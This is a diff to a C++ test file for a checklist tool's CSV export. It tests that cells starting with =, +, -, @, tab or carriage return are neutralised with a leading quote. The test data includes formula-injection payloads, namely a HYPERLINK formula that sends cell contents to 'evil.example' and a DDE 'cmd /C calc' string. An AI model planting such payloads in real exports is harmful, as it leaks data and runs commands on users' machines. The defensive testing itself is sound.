@@ -65,10 +65,21 @@ std::vector<QStringList> parseCsv(const QString &text)
 
 } // namespace
 
+// What a spreadsheet shows for a neutralised cell: the typed text behind a single quote when it
+// would otherwise run as a formula.
+QString neutralised(const QString &typed)
+{
+    static const QString FormulaStarts = QStringLiteral("=+-@\t\r");
+    return !typed.isEmpty() && FormulaStarts.contains(typed.front()) ? u'\'' + typed : typed;
+}
+
 TEST_CASE("CSV has one RFC 4180 record per item, hostile text re-parsed exactly", "[export][csv][hostile]")
 {
     const auto f = hostileReview();
-    const QByteArray bytes = CsvWriter().write(f->input());
+    const bool raw = GENERATE(false, true);
+    INFO((raw ? "--csv-raw" : "formulas neutralised"));
+    const auto typed = [&](const QString &text) { return raw ? text : neutralised(text); };
+    const QByteArray bytes = CsvWriter(raw ? CsvFormulas::Raw : CsvFormulas::Neutralised).write(f->input());
     CHECK_FALSE(bytes.startsWith("\xEF\xBB\xBF"));
     const auto records = parseCsv(QString::fromUtf8(bytes));
     REQUIRE(int(records.size()) == f->tmpl.itemCount() + 1);
@@ -85,16 +96,88 @@ TEST_CASE("CSV has one RFC 4180 record per item, hostile text re-parsed exactly"
         REQUIRE(f->tmpl.findItem(r[column("item_id")]) != nullptr);
         CHECK(r[column("item")] == f->tmpl.findItem(r[column("item_id")])->text);
         CHECK(r[column("status")] == itemStatusKey(s.status));
-        CHECK(r[column("na_reason")] == s.reason);
-        CHECK(r[column("owner")] == s.owner);
-        CHECK(r[column("note")] == s.note);
-        CHECK(r[column("evidence")] == s.evidence);
+        CHECK(r[column("na_reason")] == typed(s.reason));
+        CHECK(r[column("owner")] == typed(s.owner));
+        CHECK(r[column("note")] == typed(s.note));
+        CHECK(r[column("evidence")] == typed(s.evidence));
         matched += s.note == oneMegabyteNote() ? 1 : 0;
     }
     CHECK(matched == 1);
-    for (const QString &typed : hostileStrings())
-        CHECK(std::count_if(records.begin(), records.end(), [&](const QStringList &r) { return r.contains(typed); })
+    for (const QString &hostile : hostileStrings())
+        CHECK(std::count_if(records.begin(), records.end(),
+                            [&](const QStringList &r) { return r.contains(typed(hostile)); })
               > 0);
+}
+
+TEST_CASE("CSV cells a spreadsheet would run as formulas get a quote, unless raw", "[export][csv]")
+{
+    const auto f = halfFinishedReview();
+    const QStringList formulas {
+        QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"),
+        QStringLiteral("+1+cmd|' /C calc'!A0"),
+        QStringLiteral("-2+3"),
+        QStringLiteral("-5"),
+        QStringLiteral("@SUM(A1:A9)"),
+        QStringLiteral("\t=1+1"),
+        QStringLiteral("\r=1+1"),
+    };
+    const QStringList harmless { QStringLiteral("a=b"), QStringLiteral(" =1+1"), QStringLiteral("'=1+1"),
+                                 QStringLiteral("1-2"), QString() };
+    const QStringList typed = formulas + harmless;
+    QStringList ids; // top-level items, whose states this test replaces
+    for (const Category &category : f->tmpl.categories) {
+        for (const Section &section : category.sections) {
+            for (const Item &item : section.items)
+                ids << item.id;
+        }
+    }
+    REQUIRE(ids.size() >= typed.size());
+    for (qsizetype i = 0; i < typed.size(); ++i) {
+        ItemState s = f->state.itemState(ids[i]);
+        s.itemId = ids[i];
+        s.status = ItemStatus::NotApplicable;
+        s.reason = typed[i];
+        s.owner = typed[(i + 1) % typed.size()];
+        s.note = typed[(i + 2) % typed.size()];
+        s.evidence = typed[(i + 3) % typed.size()];
+        s.changedBy = typed[(i + 4) % typed.size()];
+        f->state.items[ids[i]] = s;
+    }
+    f->reassess();
+
+    const QString safe = QString::fromUtf8(CsvWriter().write(f->input()));
+    const QString exact = QString::fromUtf8(CsvWriter(CsvFormulas::Raw).write(f->input()));
+    CHECK(QString::fromUtf8(makeTextReportWriter(ReportFormat::Csv)->write(f->input())) == safe); // the default
+
+    // On the wire: the quote goes inside the field, and the field is quoted even without a comma.
+    CHECK(safe.contains(QStringLiteral(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",")));
+    CHECK(safe.contains(QStringLiteral(",\"'-5\",")));
+    CHECK(safe.contains(QStringLiteral(",\"'@SUM(A1:A9)\",")));
+    CHECK(safe.contains(QStringLiteral(",\"'\t=1+1\",")));
+    CHECK(safe.contains(QStringLiteral(",\"'\r=1+1\",")));
+    CHECK(exact.contains(QStringLiteral(",-5,")));
+    CHECK(exact.contains(QStringLiteral(",@SUM(A1:A9),")));
+
+    const auto safeRecords = parseCsv(safe);
+    const auto exactRecords = parseCsv(exact);
+    REQUIRE(safeRecords.size() == exactRecords.size());
+    const QStringList header = safeRecords.front();
+    CHECK(exactRecords.front() == header);
+    int formulaCells = 0;
+    for (std::size_t row = 1; row < safeRecords.size(); ++row) {
+        REQUIRE(safeRecords[row].size() == header.size());
+        for (qsizetype col = 0; col < header.size(); ++col) {
+            const QString &cell = exactRecords[row][col];
+            INFO(header[col].toStdString() << " of row " << row << ": " << cell.toStdString());
+            if (formulas.contains(cell)) {
+                ++formulaCells;
+                CHECK(safeRecords[row][col] == u'\'' + cell);
+            } else {
+                CHECK(safeRecords[row][col] == cell); // ids, keys, times and harmless text untouched
+            }
+        }
+    }
+    CHECK(formulaCells == 5 * formulas.size());
 }
 
 TEST_CASE("JSON report is the status document plus checklist, notes and report facts", "[export][json][hostile]")
